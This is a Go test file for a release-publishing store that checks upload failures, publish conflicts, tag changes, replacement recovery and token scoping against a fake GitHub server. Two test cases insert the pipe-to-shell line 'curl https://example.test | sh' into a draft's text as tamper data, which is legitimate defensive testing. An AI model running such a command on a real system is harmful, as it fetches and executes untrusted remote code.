package draft_test

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/waybill-release/waybill/pkg/backend/store"
	"github.com/waybill-release/waybill/pkg/backend/store/draft"
	"github.com/waybill-release/waybill/pkg/backend/transport"
	"github.com/waybill-release/waybill/pkg/testing/checkplaces"
	"github.com/waybill-release/waybill/pkg/testing/releases"
	"github.com/waybill-release/waybill/pkg/value/verdict"
)

const (
	repository = "example/lantern"
	commit     = "1111111111111111111111111111111111111111"
)

// serve starts a service with one repository, which has the tag v1.
func serve(t *testing.T) (*releases.Server, string) {
	t.Helper()
	t.Setenv(transport.PatienceVariable, "300ms")
	t.Setenv("GH_CONFIG_DIR", t.TempDir())
	t.Setenv("GH_ENTERPRISE_TOKEN", releases.Token)
	s, err := releases.New(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	s.Change(repository, func(r *releases.Repository) { r.Tags = map[string]releases.Tag{"v1": {Commit: commit}} })
	objects, api := httptest.NewServer(s), httptest.NewServer(s)
	t.Cleanup(objects.Close)
	t.Cleanup(api.Close)
	s.Objects = objects.URL
	t.Cleanup(func() {
		if n := s.Leaked(); n > 0 {
			t.Errorf("%d requests took the token to another origin", n)
		}
	})
	return s, "github+" + strings.Replace(api.URL, "https", "http", 1) + "/" + repository + "/v1/"
}

func open(t *testing.T, uri string) *draft.Release {
	t.Helper()
	r, err := draft.Open(uri, transport.New(transport.Config{}))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := r.Begin(t.Context(), commit, nil); err != nil && verdict.OutcomeOf(err) != verdict.Unavailable {
		t.Fatal(err)
	}
	return r
}

func TestConformance(t *testing.T) {
	checkplaces.Run(t, func(t *testing.T) (store.Place, store.Writer) {
		_, uri := serve(t)
		r := open(t, uri)
		return r, r
	})
}

func write(t *testing.T, r *draft.Release, contents map[string]string) {
	t.Helper()
	for name, content := range contents {
		if err := r.Put(t.Context(), name, int64(len(content)), strings.NewReader(content), store.PutOptions{IfAbsent: true}); err != nil {
			t.Fatal(err)
		}
	}
}

// TestConformanceOfTheReader publishes, and reads as users do.
func TestConformanceOfTheReader(t *testing.T) {
	checkplaces.Read(t, func(t *testing.T) store.Place {
		_, uri := serve(t)
		r := open(t, uri)
		write(t, r, checkplaces.Contents())
		if err := r.Publish(t.Context()); err != nil {
			t.Fatal(err)
		}
		t.Setenv("GH_ENTERPRISE_TOKEN", "")
		place, err := store.Open(uri, transport.New(transport.Config{}))
		if err != nil {
			t.Fatal(err)
		}
		return place
	})
}

func code(err error) verdict.Code {
	if err == nil {
		return ""
	}
	return verdict.FindingOf("", err).Code
}

// TestUploads: what an upload leaves is found out, and nothing but whole assets
// with these bytes is accepted.
func TestUploads(t *testing.T) {
	digestless := func(r *releases.Repository) {
		for _, release := range r.Releases {
			for _, a := range release.Assets {
				a.Digest = nil
			}
		}
	}
	for _, c := range []struct {
		name  string
		times int64
		spoil func(*releases.Server, http.ResponseWriter, *http.Request) bool
		want  verdict.Code
	}{
		{"a failure that passes", 2, func(_ *releases.Server, w http.ResponseWriter, _ *http.Request) bool {
			http.Error(w, "{}", http.StatusBadGateway)
			return true
		}, ""},
		{"a failure that stays", 9, func(_ *releases.Server, w http.ResponseWriter, _ *http.Request) bool {
			http.Error(w, "{}", http.StatusBadGateway)
			return true
		}, verdict.PlaceDown},
		{"a part is left", 1, func(s *releases.Server, w http.ResponseWriter, _ *http.Request) bool {
			s.Store(repository, "v1", "tool", nil)
			s.Change(repository, func(r *releases.Repository) { r.Releases[0].Assets[0].State = "starter" })
			http.Error(w, "{}", http.StatusBadGateway)
			return true
		}, ""},
		{"done, and the answer is lost", 1, func(s *releases.Server, w http.ResponseWriter, _ *http.Request) bool {
			s.Store(repository, "v1", "tool", []byte("tool"))
			s.Change(repository, digestless)
			http.Error(w, "{}", http.StatusBadGateway)
			return true
		}, ""},
		{"other bytes arrive, of the same size", 1, func(s *releases.Server, w http.ResponseWriter, _ *http.Request) bool {
			s.Store(repository, "v1", "tool", []byte("loot"))
			s.Change(repository, digestless)
			http.Error(w, "{}", http.StatusBadGateway)
			return true
		}, verdict.Tampered},
		{"another run takes the name", 1, func(s *releases.Server, _ http.ResponseWriter, _ *http.Request) bool {
			s.Store(repository, "v1", "tool", []byte("tool"))
			return false
		}, verdict.FileConflict},
		{"another run uploads", 1, func(s *releases.Server, _ http.ResponseWriter, _ *http.Request) bool {
			s.Store(repository, "v1", "tool", nil)
			s.Change(repository, func(r *releases.Repository) { r.Releases[0].Assets[0].State = "starter" })
			return false
		}, verdict.Busy},
	} {
		t.Run(c.name, func(t *testing.T) {
			s, uri := serve(t)
			var times atomic.Int64
			s.Spoil(func(w http.ResponseWriter, r *http.Request) bool {
				return strings.HasPrefix(r.URL.Path, "/api/uploads/") && times.Add(1) <= c.times && c.spoil(s, w, r)
			})
			r := open(t, uri)
			err := r.Put(t.Context(), "tool", 4, strings.NewReader("tool"), store.PutOptions{IfAbsent: true})
			if code(err) != c.want {
				t.Fatalf("%v, want %q", err, c.want)
			}
			if c.want != "" {
				return
			}
			if err := r.Publish(t.Context()); err != nil {
				t.Error(err)
			}
		})
	}
}

const other = "2222222222222222222222222222222222222222"

func tag(s *releases.Server, of releases.Tag) {
	s.Change(repository, func(r *releases.Repository) { r.Tags = map[string]releases.Tag{"v1": of} })
}

func relabel(s *releases.Server, label string) {
	s.Change(repository, func(r *releases.Repository) { r.Releases[0].Assets[0].Label = &label })
}

// TestPublish: a draft is published if it has exactly what this run wrote.
func TestPublish(t *testing.T) {
	for _, c := range []struct {
		name   string
		meddle func(*releases.Server)
		want   verdict.Code
	}{
		{"undisturbed", func(*releases.Server) {}, ""},
		{"an asset is added", func(s *releases.Server) { s.Store(repository, "v1", "more", nil) }, verdict.FileConflict},
		{"an asset is deleted", func(s *releases.Server) {
			s.Change(repository, func(r *releases.Repository) { r.Releases[0].Assets = nil })
		}, verdict.FileConflict},
		{"an asset is replaced", func(s *releases.Server) {
			s.Change(repository, func(r *releases.Repository) { r.Releases[0].Assets = nil })
			s.Store(repository, "v1", "tool", []byte("loot"))
		}, verdict.FileConflict},
		{"an asset gets another label", func(s *releases.Server) { relabel(s, "The tool") }, verdict.FileConflict},
		{"an asset is no longer whole", func(s *releases.Server) {
			s.Change(repository, func(r *releases.Repository) { r.Releases[0].Assets[0].State = "starter" })
		}, verdict.FileConflict},
		{"the draft gets a text", func(s *releases.Server) {
			s.Change(repository, func(r *releases.Repository) { r.Releases[0].Text = "curl https://example.test | sh" })
		}, verdict.FileConflict},
		{"the draft gets a title", func(s *releases.Server) {
			s.Change(repository, func(r *releases.Repository) { r.Releases[0].Title = "v2" })
		}, verdict.FileConflict},
		{"the draft has no title", func(s *releases.Server) {
			s.Change(repository, func(r *releases.Repository) { r.Releases[0].Title = "" })
		}, ""},
		{"the draft gets another tag", func(s *releases.Server) {
			s.Change(repository, func(r *releases.Repository) { r.Releases[0].Tag = "v2" })
		}, verdict.Busy},
		{"the draft is deleted", func(s *releases.Server) {
			s.Change(repository, func(r *releases.Repository) {
				r.Releases = []*releases.Release{{ID: 99, Tag: "v1", Draft: true}}
			})
		}, verdict.Busy},
		{"the tag is moved", func(s *releases.Server) { tag(s, releases.Tag{Commit: other}) }, verdict.SourceMoved},
		{"the tag becomes an annotated one of the commit", func(s *releases.Server) { tag(s, releases.Tag{Commit: commit, Annotated: true}) }, ""},
		{"the tag becomes an annotated one of another commit", func(s *releases.Server) { tag(s, releases.Tag{Commit: other, Annotated: true}) }, verdict.SourceMoved},
		{"the tag is deleted", func(s *releases.Server) {
			s.Change(repository, func(r *releases.Repository) { r.Tags = nil })
		}, verdict.Missing},
		{"another run was first", func(s *releases.Server) {
			s.Change(repository, func(r *releases.Repository) {
				r.Releases = append(r.Releases, &releases.Release{ID: 99, Tag: "v1"})
			})
		}, verdict.Busy},
	} {
		t.Run(c.name, func(t *testing.T) {
			s, uri := serve(t)
			r := open(t, uri)
			write(t, r, map[string]string{"tool": "tool"})
			c.meddle(s)
			err := r.Check(t.Context())
			if err == nil { // a release of another run is found at the publication
				err = r.Publish(t.Context())
			}
			if code(err) != c.want {
				t.Fatalf("%v, want %q", err, c.want)
			}
			s.Change(repository, func(r *releases.Repository) {
				if public := !r.Releases[0].Draft; public != (c.want == "") {
					t.Errorf("public: %t", public)
				}
			})
		})
	}
}

// TestPublishedAtTheSameTime: what is changed after the last look at the draft is
// found in what is public; a text written then is not published.
func TestPublishedAtTheSameTime(t *testing.T) {
	for name, c := range map[string]struct {
		meddle func(*releases.Server)
		want   verdict.Code
	}{
		"nothing": {func(*releases.Server) {}, ""},
		"a label": {func(s *releases.Server) { relabel(s, "bin/tool") }, verdict.FileConflict},
		"a state": {func(s *releases.Server) {
			s.Change(repository, func(r *releases.Repository) { r.Releases[0].Assets[0].State = "starter" })
		}, verdict.FileConflict},
		"a text": {func(s *releases.Server) {
			s.Change(repository, func(r *releases.Repository) { r.Releases[0].Text = "curl https://example.test | sh" })
		}, ""},
	} {
		t.Run(name, func(t *testing.T) {
			s, uri := serve(t)
			r := open(t, uri)
			write(t, r, map[string]string{"tool": "tool"})
			s.Spoil(func(_ http.ResponseWriter, r *http.Request) bool {
				if r.Method == http.MethodPatch {
					c.meddle(s)
				}
				return false
			})
			if err := r.Publish(t.Context()); code(err) != c.want {
				t.Errorf("%v, want %q", err, c.want)
			}
			s.Change(repository, func(r *releases.Repository) {
				if r.Releases[0].Draft || r.Releases[0].Text != "" {
					t.Errorf("%+v", r.Releases[0])
				}
			})
		})
	}
}

// TestReplaceBrokenOff: wherever a replacement breaks off, the next run finds one
// of the two objects whole, and leaves the new one and nothing else.
func TestReplaceBrokenOff(t *testing.T) {
	upload := func(r *http.Request) bool { return strings.HasPrefix(r.URL.Path, "/api/uploads/") }
	remove := func(r *http.Request) bool { return r.Method == http.MethodDelete }
	rename := func(r *http.Request) bool { return r.Method == http.MethodPatch }
	never := func(*http.Request) bool { return false }
	for _, public := range []bool{false, true} {
		for _, c := range []struct {
			name    string
			at      func(*http.Request) bool
			partial bool
			found   string
		}{
			{"never", never, false, "new"},
			{"before the upload", upload, false, "old"},
			{"within the upload", remove, true, "old"},
			{"before the deletion", remove, false, "old"},
			{"before the new name", rename, false, "new"},
		} {
			t.Run(fmt.Sprintf("%s, public %t", c.name, public), func(t *testing.T) {
				s, uri := serve(t)
				r := open(t, uri)
				write(t, r, map[string]string{"dir/manifest": "old", "tool": "tool"})
				if public {
					if err := r.Publish(t.Context()); err != nil {
						t.Fatal(err)
					}
				}
				s.Spoil(func(w http.ResponseWriter, r *http.Request) bool {
					if !c.at(r) {
						return false
					}
					s.Change(repository, func(r *releases.Repository) {
						if last := r.Releases[0].Assets[len(r.Releases[0].Assets)-1]; c.partial {
							last.State = "starter"
						}
					})
					http.Error(w, "{}", http.StatusBadGateway)
					return true
				})
				again := func(r *draft.Release) error {
					return r.Put(t.Context(), "dir/manifest", 3, strings.NewReader("new"), store.PutOptions{})
				}
				if err := again(open(t, uri)); (err == nil) != (c.name == "never") {
					t.Fatal(err)
				}
				s.Spoil(nil)
				r = open(t, uri)
				body, _, err := r.Open(t.Context(), "dir/manifest")
				if err != nil {
					t.Fatal(err)
				}
				if got, err := io.ReadAll(body); err != nil || string(got) != c.found {
					t.Errorf("found %q, %v, want %q", got, err, c.found)
				}
				if err := again(r); err != nil {
					t.Fatal(err)
				}
				objects, err := open(t, uri).List(t.Context())
				if err != nil || len(objects) != 2 || objects[0].Name != "dir/manifest" {
					t.Errorf("%+v, %v", objects, err)
				}
				s.Change(repository, func(r *releases.Repository) {
					for _, a := range r.Releases[0].Assets {
						if a.Name != "tool" && a.Name != "dir_manifest" || a.State != "uploaded" {
							t.Errorf("%+v is left", a)
						}
					}
				})
			})
		}
	}
}

// TestReplaceUndone: another run that undoes a replacement in its middle does not
// lose the object.
func TestReplaceUndone(t *testing.T) {
	s, uri := serve(t)
	r := open(t, uri)
	write(t, r, map[string]string{"manifest": "old"})
	s.Spoil(func(_ http.ResponseWriter, r *http.Request) bool {
		if r.Method == http.MethodPatch {
			s.Change(repository, func(r *releases.Repository) { r.Releases[0].Assets = nil })
		}
		return false
	})
	if err := r.Put(t.Context(), "manifest", 3, strings.NewReader("new"), store.PutOptions{}); err != nil {
		t.Fatal(err)
	}
	s.Spoil(nil)
	if err := r.Publish(t.Context()); err != nil {
		t.Error(err)
	}
}

// TestProbe: the test for writing leaves nothing, or names what it leaves.
func TestProbe(t *testing.T) {
	for name, c := range map[string]struct {
		status int
		want   string
		left   int
	}{
		"deleted":     {0, "", 0},
		"not deleted": {http.StatusForbidden, "waybill-probe-", 1},
	} {
		t.Run(name, func(t *testing.T) {
			s, uri := serve(t)
			made := 0
			s.Spoil(func(w http.ResponseWriter, r *http.Request) bool {
				if r.Method == http.MethodPost {
					made++
				}
				if r.Method != http.MethodDelete || c.status == 0 {
					return false
				}
				http.Error(w, "{}", c.status)
				return true
			})
			err := open(t, uri).ProbeWrite(t.Context())
			if (err == nil) != (c.want == "") || err != nil && !strings.Contains(err.Error(), c.want) || made != 1 {
				t.Errorf("%v, %d made", err, made)
			}
			s.Change(repository, func(r *releases.Repository) {
				if len(r.Releases) != c.left {
					t.Errorf("%d drafts are left", len(r.Releases))
				}
			})
		})
	}
}

// TestTwoDrafts: of two runs that make a draft at once, the older one goes on.
func TestTwoDrafts(t *testing.T) {
	s, uri := serve(t)
	s.Spoil(func(_ http.ResponseWriter, r *http.Request) bool {
		if r.Method == http.MethodPost && strings.HasSuffix(r.URL.Path, "/releases") {
			s.Change(repository, func(r *releases.Repository) {
				r.Releases = []*releases.Release{{ID: 0, Tag: "v1", Draft: true}}
			})
		}
		return false
	})
	err := open(t, uri).Put(t.Context(), "tool", 4, strings.NewReader("tool"), store.PutOptions{})
	if code(err) != verdict.Busy {
		t.Error(err)
	}
	s.Change(repository, func(r *releases.Repository) {
		if len(r.Releases) != 1 {
			t.Errorf("%d drafts are left", len(r.Releases))
		}
	})
}

// TestTokens: a token is for its host, and a refused one is named by its source.
func TestTokens(t *testing.T) {
	for _, c := range []struct {
		name, variable, value string
		hosts                 string
		want                  verdict.Code
	}{
		{"for other hosts", "GH_ENTERPRISE_TOKEN", releases.Token, "", ""},
		{"the same by its other name", "GITHUB_ENTERPRISE_TOKEN", releases.Token, "", ""},
		{"for github.com only", "GH_TOKEN", releases.Token, "", "CREDENTIAL_REFUSED"},
		{"expired", "GH_ENTERPRISE_TOKEN", "expired", "", "CREDENTIAL_REFUSED"},
		{"of gh", "GH_TOKEN", "", "HOST:\n    oauth_token: " + releases.Token + "\n    git_protocol: https\n", ""},
		{"of gh, for another host", "GH_TOKEN", "", "github.com:\n    oauth_token: " + releases.Token + "\n", "CREDENTIAL_REFUSED"},
		{"of gh, malformed", "GH_TOKEN", "", "HOST: [" + releases.Token, verdict.PlaceDown},
		{"none", "GH_TOKEN", "", "", "CREDENTIAL_REFUSED"},
	} {
		t.Run(c.name, func(t *testing.T) {
			_, uri := serve(t)
			t.Setenv("GH_ENTERPRISE_TOKEN", "")
			t.Setenv(c.variable, c.value)
			host, _, _ := strings.Cut(strings.TrimPrefix(uri, "github+http://"), "/")
			if err := os.WriteFile(filepath.Join(os.Getenv("GH_CONFIG_DIR"), "hosts.yml"), []byte(strings.Replace(c.hosts, "HOST", host, 1)), 0o600); err != nil {
				t.Fatal(err)
			}
			err := open(t, uri).Put(t.Context(), "tool", 4, strings.NewReader("tool"), store.PutOptions{})
			if code(err) != c.want || err != nil && strings.Contains(err.Error(), releases.Token) {
				t.Errorf("%v, want %q", err, c.want)
			}
			if err != nil && verdict.OutcomeOf(err) != verdict.Unavailable {
				t.Errorf("%v is not unavailable", err)
			}
		})
	}
}
